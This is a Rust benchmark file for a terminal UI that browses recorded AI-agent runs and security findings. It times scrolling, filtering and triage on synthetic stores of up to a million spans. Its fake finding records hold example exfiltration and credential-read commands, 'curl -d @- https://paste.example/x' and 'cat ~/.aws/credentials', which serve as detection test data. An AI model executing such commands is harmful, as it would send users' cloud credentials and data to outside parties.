//! TUI responsiveness on a store of 1,000,000 spans in 20,000 runs versus a
//! store of 100 spans, same run (the small store is the baseline).
//!
//! Drives the real `App` + views on a ratatui `TestBackend` through the
//! synchronous harness, so every "keypress to frame" figure *includes* the
//! store query the key triggers (the real UI draws before the answer arrives;
//! this is the stricter number). Measured: time to first frame (open store,
//! counts, first page, sparklines, draw), keypress-to-frame while scrolling
//! (`j`, `PageDown`, `G`), while filtering, and opening a run. Peak RSS is
//! measured in a child process per store (VmHWM), printed after the timings.
//!
//! Run: `cargo bench --bench tui` (the 1M store is generated once into
//! `target/bench-tui/`, about 10 s, and reused).

#![allow(clippy::unwrap_used)]

use criterion::{criterion_group, Criterion};
use crossterm::event::{KeyCode, KeyModifiers};
use skilltrace::store::Store;
use skilltrace::tui::harness::Harness;
use skilltrace::tui::theme::Theme;
use std::path::{Path, PathBuf};
use std::time::{Duration, Instant};

const T0: i64 = 1_768_000_000_000;

/// How a generated span picks its parent: fixed fan-out of 8 (the 1M store),
/// or a random earlier span (the one big run: siblings interleave in time).
#[derive(Clone, Copy)]
enum Parents {
    Fanout8,
    RandomEarlier,
}

fn generate(db: &Path, runs: usize, spans_per_run: usize, parents: Parents) {
    if db.exists() {
        return;
    }
    let tmp = db.with_extension("tmp");
    let _ = std::fs::remove_file(&tmp);
    let store = Store::open(&tmp).unwrap();
    let c = store.conn();
    c.execute_batch("BEGIN").unwrap();
    {
        let mut run = c
            .prepare(
                "INSERT INTO runs(id, agent, source, started_ms, ended_ms, title, models, span_count, tool_count, \
                 input_tokens, output_tokens, f_info, f_low, f_medium, f_high, f_critical, updated_ms) \
                 VALUES(?1,?2,?3,?4,?5,?6,'gpt-4o',?7,?8,1000,200,?9,0,?10,?11,?12,?4)",
            )
            .unwrap();
        let mut span = c
            .prepare(
                "INSERT INTO spans(run_key, id, parent_id, kind, name, start_ms, end_ms, status, model, tool_name, \
                 tool_input, tool_output, text, origin_path, origin_line) VALUES((SELECT key FROM runs WHERE id = ?1),?2,?3,?4,?5,?6,?7,'ok',?8,?9,?10,?11,?12,?13,?14)",
            )
            .unwrap();
        let mut finding = c
            .prepare(
                "INSERT INTO findings(fingerprint, rule_id, severity, confidence, run_id, span_id, span_ids, title, message, \
                 evidence, origin_path, origin_line, ts_ms, created_ms) VALUES(?1,?2,?3,0.9,?4,?5,?6,?7,?8,?9,?10,?11,?12,?12)",
            )
            .unwrap();
        let agents = ["claude-code", "codex", "otel", "openai-agents", "proxy"];
        // xorshift64: a fixed, dependency-free sequence of random parents.
        let mut rng: u64 = 0x9e37_79b9_7f4a_7c15;
        for i in 0..runs {
            let id = format!("run-{i:06}");
            let start = T0 + i as i64 * 60_000;
            let src = format!("bench/agent-{}.jsonl", i % 50);
            let sev = (i % 10 == 0) as i64;
            run.execute(rusqlite::params![
                id,
                agents[i % agents.len()],
                src,
                start,
                start + spans_per_run as i64 * 1_000,
                format!(
                    "bench run {i}: refactor module {} and run the tests",
                    i % 97
                ),
                spans_per_run as i64,
                (spans_per_run / 2) as i64,
                (i % 3 == 0) as i64,
                (i % 7 == 0) as i64,
                sev,
                (i % 50 == 0) as i64
            ])
            .unwrap();
            for j in 0..spans_per_run {
                let sid = format!("s{j}");
                let parent = match (j, parents) {
                    (0, _) => None,
                    (_, Parents::Fanout8) => Some(format!("s{}", (j - 1) / 8 * 8)),
                    (_, Parents::RandomEarlier) => {
                        rng ^= rng << 13;
                        rng ^= rng >> 7;
                        rng ^= rng << 17;
                        Some(format!("s{}", rng % j as u64))
                    }
                };
                let tool = j % 2 == 1;
                span.execute(rusqlite::params![
                    id,
                    sid,
                    parent.filter(|p| *p != sid),
                    if tool {
                        "tool"
                    } else if j == 0 {
                        "agent"
                    } else {
                        "llm"
                    },
                    if tool { "Bash" } else { "chat" },
                    start + j as i64 * 1_000,
                    start + j as i64 * 1_000 + 700,
                    (!tool).then_some("gpt-4o"),
                    tool.then_some("Bash"),
                    tool.then(|| format!("{{\"command\":\"ls -la /srv/data/{j}\"}}")),
                    tool.then(
                        || "total 48\ndrwxr-xr-x 2 u u 4096 a\n-rw-r--r-- 1 u u 120 b".to_string()
                    ),
                    (!tool)
                        .then(|| format!("Step {j}: reading the module and planning the change.")),
                    src,
                    (i * spans_per_run + j) as i64
                ])
                .unwrap();
            }
            if sev > 0 {
                // One action, two findings (a group in Findings), and a second flagged span.
                for (k, (rule, span, sev, ev)) in [
                    (
                        "EXF-TRACE-001",
                        "s1",
                        3,
                        "curl -d @- https://paste.example/x",
                    ),
                    ("NET-TRACE-002", "s1", 3, "curl reaches paste.example"),
                    ("EXF-TRACE-003", "s9", 2, "cat ~/.aws/credentials"),
                ]
                .into_iter()
                .enumerate()
                {
                    finding
                        .execute(rusqlite::params![
                            format!("fp-{i}-{k}"),
                            rule,
                            sev,
                            id,
                            span,
                            format!("[\"{span}\"]"),
                            "Cloud credential file read",
                            "A tool read ~/.aws/credentials",
                            ev,
                            src,
                            1,
                            start + k as i64
                        ])
                        .unwrap();
                }
            }
        }
    }
    // Findings inserted here, not by the store's write path: tallied at once.
    c.execute_batch(
        "INSERT INTO finding_tally(severity, status, n) \
         SELECT severity, status, count(*) FROM findings WHERE true GROUP BY 1, 2 \
         ON CONFLICT(severity, status) DO UPDATE SET n = n + excluded.n; COMMIT; ANALYZE;",
    )
    .unwrap();
    // A store at rest has its search index built (the writer indexes behind
    // ingest); build it in one statement, as `index_fts` would row by row.
    c.execute_batch(
        "BEGIN; INSERT INTO spans_fts(rowid, body) SELECT rowid, \
         concat_ws(' ', name, tool_name, tool_input, tool_output, text) FROM spans; \
         INSERT OR REPLACE INTO meta(key, value) SELECT 'fts_watermark', max(rowid) FROM spans; \
         COMMIT;",
    )
    .unwrap();
    assert_eq!(store.fts_pending().unwrap(), 0);
    drop(store);
    std::fs::rename(&tmp, db).unwrap();
}

fn stores() -> Vec<(&'static str, PathBuf)> {
    let dir = PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("target/bench-tui");
    std::fs::create_dir_all(&dir).unwrap();
    let small = dir.join("small-100-v4.db");
    let big = dir.join("big-1m-v4.db");
    generate(&small, 2, 50, Parents::Fanout8);
    let t = Instant::now();
    if !big.exists() {
        eprintln!("generating 1,000,000 spans in 20,000 runs …");
    }
    generate(&big, 20_000, 50, Parents::Fanout8);
    eprintln!("stores ready in {:.1}s", t.elapsed().as_secs_f64());
    vec![("100", small), ("1M", big)]
}

/// One run of 100,000 spans, each under a random earlier span.
fn big_run_store() -> PathBuf {
    let dir = PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("target/bench-tui");
    std::fs::create_dir_all(&dir).unwrap();
    let db = dir.join("run-100k-v4.db");
    generate(&db, 1, 100_000, Parents::RandomEarlier);
    db
}

fn open(db: &Path) -> Harness {
    Harness::new(db, 160, 45, T0, Theme::dark()).unwrap()
}

fn key(h: &mut Harness, code: KeyCode) {
    h.key(code, KeyModifiers::NONE);
}

fn benches(c: &mut Criterion) {
    let stores = stores();
    let mut g = c.benchmark_group("tui");
    g.sample_size(30)
        .measurement_time(Duration::from_secs(3))
        .warm_up_time(Duration::from_millis(500));
    for (name, db) in &stores {
        g.bench_function(format!("first_frame/{name}"), |b| {
            b.iter(|| {
                let mut h = open(db);
                h.draw()
            })
        });
        let mut h = open(db);
        h.draw();
        g.bench_function(format!("key_j_scroll/{name}"), |b| {
            b.iter(|| {
                h.press('j');
                h.draw()
            })
        });
        // What the real UI thread does per key: update + draw; the query runs on the worker.
        g.bench_function(format!("ui_thread_key_pagedown/{name}"), |b| {
            let mut hu = open(db);
            b.iter(|| {
                let cmd = hu.app.update(skilltrace::tui::action::Action::PageDown);
                let s = hu.draw();
                (cmd, s)
            })
        });
        g.bench_function(format!("key_pagedown/{name}"), |b| {
            b.iter(|| {
                // Wrap at the end so every sample really moves (and crosses pages).
                if h.app.runs.list.sel + 60 >= h.app.runs.list.total as usize {
                    h.press('g');
                }
                key(&mut h, KeyCode::PageDown);
                h.draw()
            })
        });
        g.bench_function(format!("key_G_then_g/{name}"), |b| {
            b.iter(|| {
                h.press('G');
                h.draw();
                h.press('g');
                h.draw()
            })
        });
        g.bench_function(format!("filter_runs/{name}"), |b| {
            let mut flip = false;
            b.iter(|| {
                flip = !flip;
                h.press('f');
                for _ in 0..40 {
                    key(&mut h, KeyCode::Backspace);
                }
                h.type_text(if flip {
                    "agent:codex sev:high\n"
                } else {
                    "refactor\n"
                });
                h.draw()
            })
        });
        g.bench_function(format!("open_run/{name}"), |b| {
            b.iter(|| {
                key(&mut h, KeyCode::Enter);
                let s = h.draw();
                key(&mut h, KeyCode::Esc);
                s
            })
        });
        // Triage at speed: the Findings view (groups), its keys, a decision and its undo,
        // and the Run view's jump to a flagged span (glyphs and roll-ups on every frame).
        g.bench_function(format!("findings_key_j/{name}"), |b| {
            let mut hf = open(db);
            key(&mut hf, KeyCode::Tab);
            b.iter(|| {
                if hf.app.findings.list.sel + 2 >= hf.app.findings.list.total as usize {
                    hf.press('g');
                }
                hf.press('j');
                hf.draw()
            })
        });
        g.bench_function(format!("findings_pagedown/{name}"), |b| {
            let mut hf = open(db);
            key(&mut hf, KeyCode::Tab);
            b.iter(|| {
                if hf.app.findings.list.sel + 60 >= hf.app.findings.list.total as usize {
                    hf.press('g');
                }
                key(&mut hf, KeyCode::PageDown);
                hf.draw()
            })
        });
        g.bench_function(format!("triage_x_then_u/{name}"), |b| {
            let mut hf = open(db);
            key(&mut hf, KeyCode::Tab);
            b.iter(|| {
                hf.press('x');
                hf.draw();
                hf.press('u');
                hf.draw()
            })
        });
        g.bench_function(format!("run_next_flagged/{name}"), |b| {
            let mut hr = open(db);
            // A run with findings: the first of the worst-findings sort.
            hr.press('s');
            key(&mut hr, KeyCode::Enter);
            b.iter(|| {
                hr.press('n');
                hr.draw()
            })
        });
        g.bench_function(format!("filter_findings/{name}"), |b| {
            let mut hf = open(db);
            key(&mut hf, KeyCode::Tab);
            let mut flip = false;
            b.iter(|| {
                flip = !flip;
                hf.press('f');
                for _ in 0..40 {
                    key(&mut hf, KeyCode::Backspace);
                }
                hf.type_text(if flip { "sev:high status:open\n" } else { "\n" });
                hf.draw()
            })
        });
    }
    g.finish();
    big_run(c);
}

/// Opening the Run view of one run of 100,000 spans (a fresh app and store
/// connection each time, so nothing is cached), and paging through it.
fn big_run(c: &mut Criterion) {
    let db = big_run_store();
    let mut g = c.benchmark_group("tui_big_run");
    g.sample_size(20)
        .measurement_time(Duration::from_secs(5))
        .warm_up_time(Duration::from_millis(500));
    g.bench_function("open_run/100k", |b| {
        b.iter_batched(
            || {
                let mut h = open(&db);
                h.draw();
                h
            },
            |mut h| {
                key(&mut h, KeyCode::Enter);
                let s = h.draw();
                (h, s)
            },
            criterion::BatchSize::PerIteration,
        )
    });
    // Where opening goes: the skeleton query, then ordering it.
    let store = Store::open_read(&db).unwrap();
    g.bench_function("span_skeleton/100k", |b| {
        b.iter(|| store.span_skeleton("run-000000").unwrap())
    });
    let skeleton = store.span_skeleton("run-000000").unwrap();
    assert_eq!(skeleton.len(), 100_000);
    g.bench_function("tree_order/100k", |b| {
        b.iter(|| skilltrace::store::tree_order::tree_order(&skeleton))
    });
    let mut h = open(&db);
    key(&mut h, KeyCode::Enter);
    let first = h.draw();
    assert!(first.contains("100000 spans"), "{first}");
    g.bench_function("key_pagedown/100k", |b| {
        b.iter(|| {
            if h.app.run.list.sel + 60 >= h.app.run.list.total as usize {
                h.press('g');
            }
            key(&mut h, KeyCode::PageDown);
            h.draw()
        })
    });
    g.bench_function("key_j/100k", |b| {
        b.iter(|| {
            h.press('j');
            h.draw()
        })
    });
    g.finish();
}

/// Child mode: open one store, scroll, filter and drill in, then print VmHWM.
fn rss_child(db: &Path) {
    let t = Instant::now();
    let mut h = open(db);
    h.draw();
    let first = t.elapsed();
    for _ in 0..300 {
        h.press('j');
        h.draw();
    }
    for _ in 0..50 {
        key(&mut h, KeyCode::PageDown);
        h.draw();
    }
    h.press('G');
    h.draw();
    key(&mut h, KeyCode::Enter);
    h.draw();
    key(&mut h, KeyCode::Esc);
    key(&mut h, KeyCode::Tab);
    for _ in 0..100 {
        key(&mut h, KeyCode::PageDown);
        h.draw();
    }
    let status = std::fs::read_to_string("/proc/self/status").unwrap_or_default();
    let hwm = status
        .lines()
        .find(|l| l.starts_with("VmHWM"))
        .unwrap_or("VmHWM: ? kB")
        .to_string();
    println!("{hwm} first_frame_ms={:.2}", first.as_secs_f64() * 1e3);
}

criterion_group!(tui_benches, benches);

fn main() {
    if let Some(db) = std::env::var_os("SKILLTRACE_TUI_BENCH_CHILD") {
        rss_child(Path::new(&db));
        return;
    }
    tui_benches();
    criterion::Criterion::default()
        .configure_from_args()
        .final_summary();
    let exe = std::env::current_exe().unwrap();
    for (name, db) in stores() {
        let out = std::process::Command::new(&exe)
            .env("SKILLTRACE_TUI_BENCH_CHILD", &db)
            .output()
            .unwrap();
        println!(
            "tui/peak_rss/{name}: {} (fresh process: open, 300×j, 50×PgDn, G, open run, findings, 100×PgDn)",
            String::from_utf8_lossy(&out.stdout).trim()
        );
    }
}
